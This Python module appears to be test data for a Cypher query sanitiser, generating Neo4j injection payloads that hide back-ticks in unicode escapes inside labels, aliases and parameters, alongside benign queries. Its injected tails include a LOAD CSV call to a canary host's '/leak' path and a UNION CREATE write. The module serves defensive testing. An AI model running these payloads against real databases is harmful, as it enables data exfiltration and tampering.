"""Escapes that become something else when they are decoded once more, in names and in values; and what only looks so.

Neo4j decodes ``\\u0060`` in the whole text, between back-ticks too, before it looks at quotations. A pair of
backslashes stays a pair there. So a name that holds a backslash must not go out, wherever it comes from.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from types import MappingProxyType
from typing import Any

from tests.hostile.attacks import Canary, Family

# One backslash before the sign of an escape: it means a back-tick, or nothing at all.
_TICKS = ("\\u0060", "\\\\\\u0060", "\\u005cu0060", "\\uu0060", "\\`")
# Pairs of backslashes: a part of the name.
_PAIRS = ("\\\\u0060", "\\\\u00750060", "\\\\\\\\u0060")
_PLACES = (
    "MATCH (n:`{name}`) RETURN n",
    "MATCH (n:Person|`{name}`) RETURN n",
    "MATCH (n:Person) WHERE n:`{name}` RETURN n",
    "MATCH (n)-[:`{name}`]->(m) RETURN n",
    "MATCH (n:Person) RETURN n.`{name}` AS x",
    "MATCH (n:Person {{`{name}`: 1}}) RETURN n",
    "MATCH (n:Person) RETURN n {{.`{name}`}} AS x",
    "RETURN {{`{name}`: 1}} AS x",
)
_ALIASES = (
    "RETURN 1 AS `{name}`",
    "WITH 1 AS `{name}` RETURN `{name}`",
    "UNWIND [1] AS `{name}` RETURN `{name}` AS x",
    "MATCH (`{name}`:Person) RETURN `{name}`.id AS x",
    "MATCH (n:Person)-[`{name}`:FOLLOWS]->() RETURN n",
    "MATCH `{name}` = (n:Person)-[:FOLLOWS]->() RETURN length(`{name}`) AS x",
    "RETURN [`{name}` IN [1] | `{name}`] AS x",
    "RETURN reduce(`{name}` = 0, i IN [1] | `{name}` + i) AS x",
    "RETURN $`{name}` AS x",
    "RETURN 1 AS `{name}` ORDER BY `{name}`",
    "RETURN 1 AS `{name}` UNION RETURN 2 AS `{name}`",
)
_BY_VALUE = (
    "MATCH (n:Person) RETURN n[$name] AS x",
    "MATCH (n:Person) WHERE n[$name] = 1 RETURN n.id AS x",
    "MATCH (n:Person)-[r:FOLLOWS]->() RETURN r[$name] AS x",
    "MATCH (n:Person) RETURN n.id AS x ORDER BY n[$name]",
    "MATCH (n:Person) WHERE EXISTS { MATCH (m:Person) WHERE m[$name] = n.id } RETURN n.id AS x",
)


def _tails(canary: Canary) -> tuple[str, ...]:
    load = f"LOAD CSV FROM 'http://{canary.address}/leak' AS r"
    return (f" UNION {load} RETURN r[0] AS a //", f" WITH 1 AS b {load} RETURN r //", " UNION CREATE (n) RETURN n //")


def _names(canary: Canary) -> Iterator[str]:
    for tick in _TICKS:
        yield from (f"a{tick}{tail}" for tail in _tails(canary))


def _in_names(canary: Canary) -> Iterator[str]:
    for place in _PLACES:
        yield from (place.format(name=name) for name in _names(canary))


def _decoded(canary: Canary) -> Iterator[str]:
    for place in _ALIASES:
        yield from (place.format(name=f"a{tick}{tail}") for tick in ("\\u0060", "\\uu0060") for tail in _tails(canary))
        yield place.format(name="a\\u005cu0060 AS x //")
        yield place.format(name="a\\u000a")


FAMILIES: Mapping[str, Family] = MappingProxyType({"escapes in names": _in_names, "decoded escapes": _decoded})


def ambiguous(canary: Canary) -> tuple[tuple[str, dict[str, Any]], ...]:
    """Texts with parameters that are refused, or are data: names of columns and of properties that nothing has."""
    pairs = [f"a{tick}{tail}" for tick in _PAIRS for tail in _tails(canary)]
    found: list[tuple[str, dict[str, Any]]] = []
    for place in (*_PLACES, *_ALIASES):
        found += [(place.format(name=name), {name: 1}) for name in pairs]
    values = [*_names(canary), "a` AS x UNION CREATE (n) RETURN n AS x //", "a\n", "a\x00", "\ud800", "", "\\"]
    for place in _BY_VALUE:
        found += [(place, {"name": value}) for value in values]
    found += [("MATCH (n:Person) RETURN $name AS x, n.id = $name AS y", {"name": value}) for value in values]
    return tuple(found)


BENIGN = (
    "RETURN '\\\\u0041' AS x",
    "RETURN '\\\\u0060', '\\\\\\\\u0060' AS x",
    "RETURN '\\\\\\u0041' AS x",
    "RETURN 'C:\\\\users' AS x",
    "RETURN 'C:\\\\users\\\\u0041\\\\'",
    'RETURN "C:\\\\udata\\\\new" AS x',
    "RETURN 'C:\\\\users' AS x // C:\\\\users",
    "MATCH (n:Person) WHERE n.name = 'C:\\\\users' RETURN n",
    "MATCH (n:Person) WHERE n.name CONTAINS '\\\\' RETURN n.id AS id",
    "MATCH (n:Person) WHERE n.name =~ '[a-z]\\\\.' RETURN n.id AS id",
    "RETURN 1 AS `C:\\dir`",
    "RETURN 1 AS `a\\\\u0041` ORDER BY `a\\\\u0041`",
    "WITH 1 AS `a\\b` RETURN `a\\b` + 1 AS x",
    "RETURN $`a\\b` AS x",
    "RETURN CASE\n  WHEN true THEN 1\nEND",
    "RETURN 1 AS `gv name 1`",
)
